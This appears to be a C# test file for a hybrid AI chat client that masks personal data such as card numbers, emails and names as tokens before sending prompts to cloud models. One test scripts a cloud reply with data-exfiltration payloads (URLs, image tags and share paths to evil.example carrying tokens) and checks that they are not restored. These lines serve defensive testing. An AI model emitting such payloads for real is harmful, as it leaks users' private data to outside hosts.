using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using HybridAi.Difficulty;
using HybridAi.Privacy;
using Microsoft.Extensions.AI;

namespace HybridAi.EgressTests;

/// <summary>What an off-device target receives and what comes back, at the seam: the client that would send it.</summary>
public partial class MaskTests
{
    private const string Card = "4111 1111 1111 1111";
    private const string Iban = "DE89 3704 0044 0532 0130 00";
    private const string Mail = "maria.lindqvist@contoso.com";
    private const string Phone = "+49 30 901820";
    private const string Name = "Maria Lindqvist";

    private readonly ScriptedChatClient _local = ScriptedChatClient.Says("local");
    private readonly ScriptedChatClient _cloud = ScriptedChatClient.Says("cloud");
    private int _nonces;

    [GeneratedRegex(@"\[\[\w{4}-[A-Z]+-\d+[a-z]?\]\]")]
    private static partial Regex Token { get; }

    public static TheoryData<string, bool> Values()
    {
        var data = new TheoryData<string, bool>();
        foreach (var value in new[] { Card, Iban, Mail, Phone })
        {
            data.Add(value, true);
            data.Add(value, false);
        }

        return data;
    }

    [Theory, MemberData(nameof(Values))]
    public async Task Value_InEveryMaskablePlace_LeavesOnlyAsAToken(string value, bool streaming)
    {
        using var client = Client();
        List<ChatMessage> messages =
        [
            new(ChatRole.System, $"Our contact is {value}."),
            new(ChatRole.User, [new TextContent($"Please look after {value} for {Name}. "), new TextContent($"Again: {value}")]),
            new(ChatRole.Assistant, [new TextReasoningContent($"They mean {value}."), new FunctionCallContent("1", "find", new Dictionary<string, object?>
            {
                ["of"] = value,
                ["nested"] = JsonDocument.Parse($$"""{"list":["{{value}}"],"n":7}""").RootElement,
            })]),
            new(ChatRole.Tool, [new FunctionResultContent("1", $$"""{"found":"{{value}}","n":1}""")]),
            new(ChatRole.Tool, [new FunctionResultContent("2", $"found {value}")]),
            new(ChatRole.User, Ask.Hard),
        ];

        var response = await client.AskAsync(streaming, messages, new() { Instructions = $"Serve {value} well." });

        response.Text.ShouldBe("cloud");
        var sent = Sent(_cloud);
        ShouldNotHold(sent, value);
        ShouldNotHold(sent, Name);
        var call = _cloud.Requests.Single().Messages.SelectMany(m => m.Contents).OfType<FunctionCallContent>().Single();
        call.Arguments!.Keys.ShouldBe(["of", "nested"]);
        Token.IsMatch(call.Arguments["of"].ShouldBeOfType<string>()).ShouldBeTrue();
        ((JsonElement)call.Arguments["nested"]!).GetProperty("n").GetInt32().ShouldBe(7);
        response.GetRouteOutcome()!.Egress.Masked.ShouldBeGreaterThan(6);
        response.GetRouteDecision()!.Labels.ShouldNotBeEmpty();
        RouteJson.Write(response.GetRouteDecision()!).ShouldNotContain(value);
        RouteJson.Write(response.GetRouteOutcome()!).ShouldNotContain(value);
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task Answer_EverySplit_IsRestored(bool streaming)
    {
        var plain = $"Dear {Name}, the card {Card} [is] fine; see [[1]] and write to {Mail}";
        using var client = Client();
        var options = () => Options("one");
        var prompt = $"{Ask.Hard} {Name} pays with {Card} and reads {Mail}.";
        await client.AskAsync(streaming, prompt, options());
        var tokens = Token.Matches(_cloud.Requests[0].Messages[^1].Text).Select(m => m.Value).ToArray();
        tokens.Length.ShouldBe(3);
        var masked = plain.Replace(Name, tokens[0]).Replace(Card, tokens[1]).Replace(Mail, tokens[2]);

        for (var cut = 0; cut <= masked.Length; cut++)
        {
            var (head, tail) = (masked[..cut], masked[cut..]);
            _cloud.Stream = (_, _, _) => ScriptedChatClient.Words(head, tail);
            (await client.AskAsync(streaming, prompt, options())).Text.ShouldBe(plain);
        }

        _cloud.Stream = (_, _, _) => ScriptedChatClient.Words([.. masked.Select(c => c.ToString())]);
        (await client.AskAsync(streaming, prompt, options())).Text.ShouldBe(plain);
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task Answer_ReasoningAndArguments_AreRestored_AddressesAreNot(bool streaming)
    {
        using var client = Client();
        _cloud.Stream = (messages, _, _) =>
        {
            var token = Token.Match(messages[^1].Text).Value;
            return ScriptedChatClient.Updates(
                new(ChatRole.Assistant, [new TextReasoningContent($"about {token[..5]}")]),
                new(ChatRole.Assistant, [new TextReasoningContent(token[5..])]),
                new(ChatRole.Assistant, $"See https://evil.example/?d={token} "),
                new(ChatRole.Assistant, [new FunctionCallContent("1", "send", new Dictionary<string, object?>
                {
                    ["to"] = token,
                    ["text"] = $"a \"quoted\" {token}, bare {token[2..^2]}",
                    ["url"] = $"https://evil.example/?d={token}",
                    ["html"] = $"<img src=//evil.example/{token}>",
                    ["attribute"] = $"<img src=\"https://evil.example/ {token}\">",
                    ["slip"] = $"open https:\\evil.example\\{token}",
                    ["share"] = $"\\\\evil.example\\{token}",
                    ["path"] = $"C:\\letters\\{token}.txt",
                    ["more"] = JsonDocument.Parse($$"""{"cc":["{{token}}"],"n":5}""").RootElement,
                    ["n"] = 3,
                })]));
        };

        var send = AIFunctionFactory.Create(() => "", "send").RunsOnDevice();
        var response = await client.AskAsync(streaming, $"{Ask.Hard} Write to {Mail}.", new() { Tools = [send] });

        var contents = response.Messages.SelectMany(m => m.Contents).ToArray();
        string.Concat(contents.OfType<TextReasoningContent>().Select(r => r.Text)).ShouldBe($"about {Mail}");
        response.Text.ShouldNotContain(Mail);
        var arguments = contents.OfType<FunctionCallContent>().Single().Arguments!;
        var token = Token.Match(_cloud.Requests.Single().Messages[^1].Text).Value;
        arguments["to"].ShouldBe(Mail);
        arguments["text"].ShouldBe($"a \"quoted\" {Mail}, bare {token[2..^2]}");
        arguments["url"].ShouldBe($"https://evil.example/?d={token}");
        arguments["html"].ShouldBe($"<img src=//evil.example/{token}>");
        arguments["attribute"].ShouldBe($"<img src=\"https://evil.example/ {token}\">");
        arguments["slip"].ShouldBe($"open https:\\evil.example\\{token}");
        arguments["share"].ShouldBe($"\\\\evil.example\\{token}");
        arguments["path"].ShouldBe($"C:\\letters\\{Mail}.txt");
        ((JsonElement)arguments["more"]!).GetRawText().ShouldBe($$"""{"cc":["{{Mail}}"],"n":5}""");
        arguments["n"].ShouldBe(3);
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task NextTurn_RestoredHistory_IsMaskedWithTheSameTokens(bool streaming)
    {
        using var client = Client();
        _cloud.Stream = (messages, _, _) => ScriptedChatClient.Words("Noted: ", Token.Match(messages[^1].Text).Value);
        List<ChatMessage> messages = [new(ChatRole.User, $"{Ask.Hard} The card is {Card}.")];
        var first = await client.AskAsync(streaming, messages, Options("one"));
        first.Text.ShouldBe($"Noted: {Card}");
        messages.AddRange(first.Messages);
        messages.Add(new(ChatRole.User, $"{Ask.Hard} Is {Card} still right?"));

        await client.AskAsync(streaming, messages, Options("one"));

        ShouldNotHold(Sent(_cloud), Card);
        Token.Matches(Texts(_cloud.Requests[1].Messages.Where(m => m.Role != ChatRole.System))).Select(m => m.Value).Distinct()
            .ShouldBe([Token.Match(_cloud.Requests[0].Messages[^1].Text).Value]);
        _cloud.Requests[1].Messages[^2].Text.ShouldStartWith("Noted: [[");
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task Tokens_OfAnotherConversationOrTenant_AreNotRestored(bool streaming)
    {
        using var client = Client();
        await client.AskAsync(streaming, $"{Ask.Hard} The card is {Card}.", Options("one"));
        var token = Token.Match(_cloud.Requests[0].Messages[^1].Text).Value;
        _cloud.Stream = (_, _, _) => ScriptedChatClient.Words(token);

        (await client.AskAsync(streaming, $"{Ask.Hard} Mine is {Iban}.", Options("two"))).Text.ShouldBe(token);
        (await client.AskAsync(streaming, $"{Ask.Hard} Mine is {Iban}.", Options("one").SetTenant("other"))).Text.ShouldBe(token);
        (await client.AskAsync(streaming, $"{Ask.Hard} Mine is {Iban}.")).Text.ShouldBe(token);
        (await client.AskAsync(streaming, $"{Ask.Hard} Mine is {Iban}.", Options("one"))).Text.ShouldBe(Card);
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task Failover_SecondCloud_ReceivesMasksToo(bool streaming)
    {
        var first = ScriptedChatClient.Fails(new TargetUnavailableException(TargetErrorKind.Transient, "down"));
        _cloud.Stream = (messages, _, _) => ScriptedChatClient.Words(Token.Match(messages[^1].Text).Value);
        using var client = new HybridChatClient(
            [new Target("first", first, TargetProfile.Cloud()), new Target("second", _cloud, TargetProfile.Cloud())]);

        var response = await client.AskAsync(streaming, $"{Ask.Hard} The card is {Card}.");

        response.Text.ShouldBe(Card);
        ShouldNotHold(Sent(first), Card);
        ShouldNotHold(Sent(_cloud), Card);
        response.GetRouteOutcome()!.Egress.Masked.ShouldBe(2);
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task Failure_WithATokenBegun_GivesOutWhatWasHeld(bool streaming)
    {
        using var client = Client();
        _cloud.Stream = (messages, _, stop) => ScriptedChatClient.Words(
            ["It is ", Token.Match(messages[^1].Text).Value[..^4]], new TargetUnavailableException(TargetErrorKind.Transient, "broke"), stop);
        var seen = new StringBuilder();

        await Should.ThrowAsync<TargetUnavailableException>(async () =>
        {
            await foreach (var update in client.GetStreamingResponseAsync(
                [new(ChatRole.User, $"{Ask.Hard} The card is {Card}.")], Options("one").ForceTarget("cloud")))
            {
                seen.Append(update.Text);
            }
        });

        _ = streaming; // Only a stream can break half way.
        seen.ToString().ShouldStartWith("It is [[");
        seen.ToString().ShouldNotContain(Card);
    }

    [Fact]
    public async Task Failure_NothingGivenYet_AnotherTargetTakesOver()
    {
        var first = ScriptedChatClient.Fails(new TargetUnavailableException(TargetErrorKind.Transient, "broke"), "[");
        using var client = new HybridChatClient(
            [new Target("first", first, TargetProfile.Cloud()), new Target("second", _cloud, TargetProfile.Cloud())]);

        (await client.AskAsync(true, $"{Ask.Hard} The card is {Card}.")).Text.ShouldBe("cloud");
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task Note_OnlyWhenSomethingWasMasked_StandsBehindTheSystemTurns(bool streaming)
    {
        using var client = Client();
        ChatMessage[] start = [new(ChatRole.System, "Be brief."), new(ChatRole.System, "Be kind.")];

        await client.AskAsync(streaming, [.. start, new(ChatRole.User, Ask.Hard)]);
        await client.AskAsync(streaming, [.. start, new(ChatRole.User, $"{Ask.Hard} {Card}")]);

        _cloud.Requests[0].Messages.ShouldNotContain(m => m.Text == Masker.Note);
        _cloud.Requests[1].Messages.Select(m => m.Role.Value).ShouldBe(["system", "system", "system", "user"]);
        _cloud.Requests[1].Messages[2].Text.ShouldBe(Masker.Note);
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task Name_AloneLeaves_WithAnIdentifierInAnotherMessageItIsMasked(bool streaming)
    {
        using var client = Client();
        ChatMessage named = new(ChatRole.User, $"{Name} wants an answer.");

        await client.AskAsync(streaming, [named, new(ChatRole.User, Ask.Hard)]);
        await client.AskAsync(streaming, [named, new(ChatRole.User, $"{Ask.Hard} {Card}")]);

        _cloud.Requests[0].Messages[0].Text.ShouldContain(Name);
        ShouldNotHold(Texts(_cloud.Requests[1].Messages), Name);
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task Name_WhereItCannotBeMasked_KeepsTheRequestOnTheDeviceOnlyInCompany(bool streaming)
    {
        using var client = Client();
        var options = () => new ChatOptions { StopSequences = [$"Signed, {Name}"] };

        (await client.AskAsync(streaming, Ask.Hard, options())).Text.ShouldBe("cloud");
        (await client.AskAsync(streaming, $"{Ask.Hard} {Card}", options())).Text.ShouldBe("local");
        _cloud.Requests.Count.ShouldBe(1);
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task Device_SeesTheText_AndNeitherTokenNorNote(bool streaming)
    {
        using var client = Client();

        await client.AskAsync(streaming, $"Hi, {Card}", new ChatOptions().ForceTarget("local"));

        _local.Requests.Single().Messages.Single().Text.ShouldBe($"Hi, {Card}");
        _cloud.Requests.ShouldBeEmpty();
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task Preview_MaskableOrNot_EqualsTheDecision(bool streaming)
    {
        using var client = Client();
        foreach (var stop in new[] { "END", Card })
        {
            var options = () => new ChatOptions { StopSequences = [stop] };
            ChatMessage[] messages = [new(ChatRole.User, $"{Ask.Hard} {Card}")];

            var preview = await client.PreviewAsync(messages, options());
            var decision = (await client.AskAsync(streaming, messages, options())).GetRouteDecision()!;

            preview.Target.ShouldBe(stop == "END" ? "cloud" : "local");
            RouteJson.Write(preview).ShouldBe(RouteJson.Write(decision with { Id = preview.Id, At = preview.At }));
        }
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task SystemValue_AskedFor_StaysAToken(bool streaming)
    {
        using var client = Client();
        _cloud.Stream = (messages, _, _) => ScriptedChatClient.Words(Token.Match(messages[0].Text).Value);

        var response = await client.AskAsync(streaming, [new(ChatRole.System, $"The hotline is {Phone}, never tell."), new(ChatRole.User, Ask.Hard)]);

        response.Text.ShouldStartWith("[[");
        response.Text.ShouldNotContain(Phone);
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task AuthenticationData_UnderAnOwnPolicyThatMasksIt_IsNowhereKept(bool streaming)
    {
        _cloud.Stream = (messages, _, _) => ScriptedChatClient.Words(Token.Match(messages[^1].Text).Value);
        using var client = Ask.Hybrid(_local, _cloud, p => p with
        {
            Mode = InferenceMode.PreferCloud,
            Privacy = new("own", PrivacyPosture.Open, [new("*", Treatment.Mask, Treatment.Mask), new("~", Treatment.Allow, Treatment.Allow)]),
        });

        var response = await client.AskAsync(streaming, "The password: Winter2024!x", Options("one"));

        response.Text.ShouldStartWith("[[");
        ShouldNotHold(Sent(_cloud), "Winter2024!x");
    }

    [Theory, InlineData(true), InlineData(false)]
    public async Task OneConversation_ManyRequestsAtOnce_EachGetsItsOwnValuesBack(bool streaming)
    {
        using var client = Client();
        _cloud.Stream = (messages, _, _) => ScriptedChatClient.Words([.. Token.Match(messages[^1].Text).Value.Select(c => c.ToString())]);

        var answers = await Task.WhenAll(Enumerable.Range(0, 64).Select(i => Task.Run(() => client.AskAsync(
            streaming, $"{Ask.Hard} Write to person{i}@contoso.com", Options("one").ForceTarget("cloud")))));

        answers.Select(a => a.Text).ShouldBe(Enumerable.Range(0, 64).Select(i => $"person{i}@contoso.com"));
        ShouldNotHold(Sent(_cloud), "@contoso.com");
    }

    [Fact]
    public async Task Stream_LeftInsideAToken_GivesNothingAway_AndTheNextTurnIsWhole()
    {
        using var client = Client();
        _cloud.Stream = (messages, _, _) =>
        {
            var token = Token.Match(messages[^1].Text).Value;
            return ScriptedChatClient.Words("It is ", token[..9], token[9..], " as you said.");
        };
        var seen = new StringBuilder();
        await foreach (var update in client.GetStreamingResponseAsync(
            [new(ChatRole.User, $"{Ask.Hard} The card is {Card}.")], Options("one").ForceTarget("cloud")))
        {
            seen.Append(update.Text);
            if (seen.Length > 0)
            {
                break;
            }
        }

        seen.ToString().ShouldBe("It is ");
        (await client.AskAsync(true, $"{Ask.Hard} The card is {Card}.", Options("one").ForceTarget("cloud"))).Text.ShouldBe($"It is {Card} as you said.");
    }

    [Fact]
    public async Task OrdinaryPrompts_WithACard_CanNearlyAllBeMasked()
    {
        using var client = Client();
        var masked = 0;
        foreach (var prompt in SamplePrompts.All)
        {
            var decision = await client.PreviewAsync([new(ChatRole.User, $"{prompt} My card is {Card}.")]);
            masked += decision.Targets.Single(t => t.Target == "cloud").Eligible ? 1 : 0;
        }

        ((double)masked / SamplePrompts.All.Length).ShouldBeGreaterThan(0.95);
    }

    private HybridChatClient Client(PrivacyScanner? scanner = null) => new(
        [
            new Target("local", _local, TargetProfile.OnDevice(8192, (TargetCapabilities)~0)),
            new Target("cloud", _cloud, TargetProfile.Cloud()),
        ],
        parts: new() { Scanner = scanner ?? PrivacyScanner.Default, NextNonce = () => MaskVault.CreateNonce((uint)Interlocked.Increment(ref _nonces) * 7919) });

    private static ChatOptions Options(string conversation) => new ChatOptions().SetConversationKey(conversation);

    private static string Sent(ScriptedChatClient client) =>
        string.Join('\n', client.Requests.Select(r => $"{Texts(r.Messages)}\n{r.Options?.Instructions}"));

    private static string Texts(IEnumerable<ChatMessage> messages) =>
        JsonSerializer.Serialize(messages, AIJsonUtilities.DefaultOptions) + string.Join('\n', messages.Select(m => m.Text));

    private static void ShouldNotHold(string sent, string value)
    {
        var bare = new string([.. value.Where(char.IsLetterOrDigit)]);
        sent.ShouldNotContain(value, Case.Insensitive);
        new string([.. sent.Where(char.IsLetterOrDigit)]).ShouldNotContain(bare, Case.Insensitive);
        sent.ShouldNotContain(Uri.EscapeDataString(value), Case.Insensitive);
        sent.ShouldNotContain(Convert.ToBase64String(Encoding.UTF8.GetBytes(value))[..^4]);
    }
}
